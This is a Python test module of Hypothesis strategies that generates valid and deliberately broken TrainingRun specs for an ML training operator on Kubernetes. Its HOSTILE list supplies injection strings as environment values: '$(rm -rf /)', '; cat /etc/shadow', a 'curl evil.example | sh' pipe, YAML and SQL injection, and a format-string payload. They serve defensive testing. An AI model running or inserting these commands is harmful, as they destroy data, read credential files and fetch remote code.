"""Hypothesis strategies for TrainingRun specs: valid ones, and valid ones broken by known mutations.

Each generated :class:`Case` knows what must happen to it:

* ``schema``: the API server refuses it (422) with a message naming ``paths``;
* ``operator``: it is stored and the operator sets ``Accepted=False`` naming one of ``paths``;
* ``plan``: it is accepted and planning fails with ``Planned=False`` (resources that cannot fit);
* ``valid``: it is accepted (``Accepted=True``) and, with ``dryRun``, rendered into status.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field
from typing import Any

from hypothesis import strategies as st

from tests.support.model_configs import LLAMA_8B_CONFIG

#: Characters that JSON, YAML and the API server carry (no lone surrogates). Not empty: the test API server
#: is kube-apiserver 1.20 built with Go >= 1.16, which reads "" in a custom resource as null and refuses it
#: (kubernetes/kubernetes#99804, fixed in 1.21); released 1.20 binaries and newer servers accept "".
TEXT = st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=40)
#: Strings a shell or YAML would interpret: they must reach the pod verbatim and do nothing else.
HOSTILE = st.sampled_from(
    [
        "$(rm -rf /)",
        "`id`",
        "; cat /etc/shadow",
        "a && curl evil.example | sh",
        "line1\nline2: injected\n---\nkind: Secret",
        "{{ .Values.secret }}",
        "${HF_TOKEN}",
        "' OR '1'='1",
        '"; exit 1; "',
        "\\x00\\n",
        "key: [unclosed",
        "&anchor *alias",
        "%s%s%n",
    ]
)


@dataclass
class Case:
    """A generated spec and what must happen to it."""

    spec: dict[str, Any]
    expect: str = "valid"
    paths: list[str] = field(default_factory=list)
    mutations: list[str] = field(default_factory=list)


@st.composite
def valid_specs(draw: st.DrawFn) -> dict[str, Any]:
    """A spec the API server and the operator both accept (dry run: nothing is launched)."""
    algorithm = draw(st.sampled_from(["sft", "osft", "lora_sft"]))
    hp: dict[str, Any] = {}
    if draw(st.booleans()):
        hp["learning_rate"] = draw(st.floats(1e-7, 1.0, exclude_min=True))
    if draw(st.booleans()):
        hp["max_seq_len"] = draw(st.integers(8, 8192))
    if draw(st.booleans()):
        hp["num_epochs"] = draw(st.integers(1, 20))
    if draw(st.booleans()):
        hp["lr_scheduler"] = draw(st.sampled_from(["cosine", "linear", "constant"]))
    if algorithm == "osft":
        hp["unfreeze_rank_ratio"] = draw(st.floats(0.01, 1.0))
    if algorithm == "lora_sft" and draw(st.booleans()):
        hp["lora_r"] = draw(st.integers(1, 256))
    claim = draw(st.from_regex(r"[a-z0-9][a-z0-9-]{0,20}[a-z0-9]", fullmatch=True))
    model_uri = draw(
        st.sampled_from(
            [f"pvc://{claim}/llama", "hf://meta-llama/Llama-3.1-8B", "/models/llama", f"pvc://{claim}"]
        )
    )
    env_names = draw(
        st.lists(st.from_regex(r"[A-Z][A-Z0-9_]{0,12}", fullmatch=True), max_size=3, unique=True)
    )
    env_names = [n for n in env_names if not n.startswith(("PET_", "MASTER_", "TORCHELASTIC_"))]
    env_names = [
        n for n in env_names if n not in {"RANK", "WORLD_SIZE", "LOCAL_RANK", "HF_TOKEN", "NODE_RANK"}
    ]
    env_names = [n for n in env_names if not n.startswith(("LOCAL_", "GROUP_", "ROLE_"))]
    env = [{"name": n, "value": draw(st.one_of(TEXT, HOSTILE))} for n in env_names]
    spec: dict[str, Any] = {
        "algorithm": algorithm,
        "hyperparameters": hp,
        "model": {"uri": model_uri, "config": copy.deepcopy(LLAMA_8B_CONFIG)},
        "data": {"uri": f"pvc://{claim}/data/train.jsonl"},
        "output": {"uri": f"pvc://{claim}/out/{draw(st.from_regex(r'[a-z]{1,8}', fullmatch=True))}"},
        # A fixed shape: whether a planned shape fits is the estimator's business (tested elsewhere).
        "resources": {"nodes": draw(st.integers(1, 4)), "gpusPerNode": draw(st.integers(0, 8))},
        "runtime": {"image": "registry.example/training-hub/runtime:test", "env": env},
        "dryRun": True,
    }
    if draw(st.booleans()):
        spec["backoffLimit"] = draw(st.integers(0, 100))
    return spec


# ---------------------------------------------------------------------------------------------- mutations
# Each: (name, group, layer, path the error message must name, function(spec, draw) -> None). At most one
# mutation per group is applied, so two mutations never undo each other.


def _set_hp(key: str, value: Any) -> Any:
    def apply(spec: dict[str, Any], draw: st.DrawFn) -> None:
        spec["hyperparameters"][key] = value

    return apply


def _foreign_hp(spec: dict[str, Any], draw: st.DrawFn) -> None:
    spec["algorithm"] = "sft"
    spec["hyperparameters"].pop("unfreeze_rank_ratio", None)
    spec["hyperparameters"]["lora_r"] = draw(st.integers(1, 64))


def _reserved_env(spec: dict[str, Any], draw: st.DrawFn) -> None:
    name = draw(st.sampled_from(["MASTER_ADDR", "PET_NNODES", "WORLD_SIZE", "RANK", "TORCHELASTIC_RUN_ID"]))
    spec["runtime"]["env"] = [{"name": name, "value": "x"}]


def _osft_without_ratio(spec: dict[str, Any], draw: st.DrawFn) -> None:
    spec["algorithm"] = "osft"
    spec["hyperparameters"] = {k: v for k, v in spec["hyperparameters"].items() if k != "lora_r"}
    spec["hyperparameters"].pop("unfreeze_rank_ratio", None)


def _nodes_over_max(spec: dict[str, Any], draw: st.DrawFn) -> None:
    spec["resources"].update(nodes=draw(st.integers(3, 50)), maxNodes=2)


def _duplicate_env(spec: dict[str, Any], draw: st.DrawFn) -> None:
    spec["runtime"]["env"] = [{"name": "DUP_VAR", "value": "a"}, {"name": "DUP_VAR", "value": "b"}]


def _value_and_value_from(spec: dict[str, Any], draw: st.DrawFn) -> None:
    spec["runtime"]["env"] = [
        {"name": "BOTH_SET", "value": "a", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}
    ]


def _bad_model_uri(spec: dict[str, Any], draw: st.DrawFn) -> None:
    spec["model"]["uri"] = draw(
        st.sampled_from(
            ["s4://bucket/model", "relative/path", "/path with space", "pvc://UPPER/x", "hf://", "s3://B/x"]
        )
    )


def _empty_model_uri(spec: dict[str, Any], draw: st.DrawFn) -> None:
    spec["model"]["uri"] = ""


def _bad_quantity(spec: dict[str, Any], draw: st.DrawFn) -> None:
    spec["resources"]["gpuMemory"] = draw(st.sampled_from(["lots", "80 GB", "-1Gi", "1e3Gi", "Gi"]))


def _missing_data(spec: dict[str, Any], draw: st.DrawFn) -> None:
    del spec["data"]


def _bad_env_name(spec: dict[str, Any], draw: st.DrawFn) -> None:
    spec["runtime"]["env"] = [{"name": draw(st.sampled_from(["1ABC", "A B", "A=B", "$(X)"])), "value": "v"}]


def _cannot_fit(spec: dict[str, Any], draw: st.DrawFn) -> None:
    spec["resources"] = {"gpuMemory": "1Gi", "maxNodes": 1, "maxGpusPerNode": 1}


def _unknown_algorithm(spec: dict[str, Any], draw: st.DrawFn) -> None:
    spec["algorithm"] = draw(st.sampled_from(["ppo", "SFT", "lora", ""]))


MUTATIONS: list[tuple[str, str, str, str, Any]] = [
    ("lr-zero", "lr", "schema", "learning_rate", _set_hp("learning_rate", 0)),
    ("lr-too-big", "lr", "schema", "learning_rate", _set_hp("learning_rate", 3.5)),
    ("seq-len-string", "seq", "schema", "max_seq_len", _set_hp("max_seq_len", "long")),
    ("seq-len-tiny", "seq", "schema", "max_seq_len", _set_hp("max_seq_len", 2)),
    ("epochs-negative", "epochs", "schema", "num_epochs", _set_hp("num_epochs", -1)),
    ("scheduler-unknown", "sched", "schema", "lr_scheduler", _set_hp("lr_scheduler", "exponential")),
    ("algorithm-unknown", "algo", "schema", "algorithm", _unknown_algorithm),
    # Locations are checked by the operator (Accepted=False naming the accepted forms), not by a CRD
    # pattern: kube-apiserver would answer with the raw regex. Only an empty one is refused by the schema.
    ("model-uri", "model", "operator", "model.uri", _bad_model_uri),
    ("model-uri-empty", "model", "schema", "model.uri", _empty_model_uri),
    ("gpu-memory", "res", "schema", "gpuMemory", _bad_quantity),
    ("missing-data", "data", "schema", "data", _missing_data),
    ("env-name", "env", "schema", "env", _bad_env_name),
    ("foreign-hyperparameter", "algo", "operator", "spec.hyperparameters.lora_r", _foreign_hp),
    ("reserved-env", "env", "operator", "reserved", _reserved_env),
    (
        "osft-without-ratio",
        "algo",
        "operator",
        "spec.hyperparameters.unfreeze_rank_ratio",
        _osft_without_ratio,
    ),
    ("nodes-over-max", "res", "operator", "resources.nodes", _nodes_over_max),
    ("duplicate-env", "env", "operator", "DUP_VAR", _duplicate_env),
    ("value-and-valuefrom", "env", "operator", "BOTH_SET", _value_and_value_from),
    ("cannot-fit", "res", "plan", "", _cannot_fit),
]
_ORDER = {"valid": 0, "plan": 1, "operator": 2, "schema": 3}


@st.composite
def cases(draw: st.DrawFn) -> Case:
    """A valid spec with 0, 1 or 2 mutations applied, and the outcome they must produce."""
    spec = draw(valid_specs())
    chosen = draw(st.lists(st.sampled_from(MUTATIONS), max_size=2, unique_by=lambda m: m[1]))
    case = Case(spec=spec)
    for name, _group, layer, path, fn in chosen:
        fn(case.spec, draw)
        case.mutations.append(name)
        if _ORDER[layer] > _ORDER[case.expect]:
            case.expect, case.paths = layer, [path]
        elif layer == case.expect:
            case.paths.append(path)
    return case
